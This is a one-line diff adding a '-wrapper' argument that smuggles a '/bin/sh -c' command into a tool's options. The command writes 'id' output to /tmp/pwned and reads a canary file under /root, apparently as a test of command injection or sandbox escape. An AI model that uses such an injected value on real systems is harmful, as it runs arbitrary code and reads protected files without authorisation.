@@ -1,0 +1,1 @@
+-wrapper '/bin/sh,-c,id > /tmp/pwned; cat /root/ag-canary/canary.txt; exit 1'
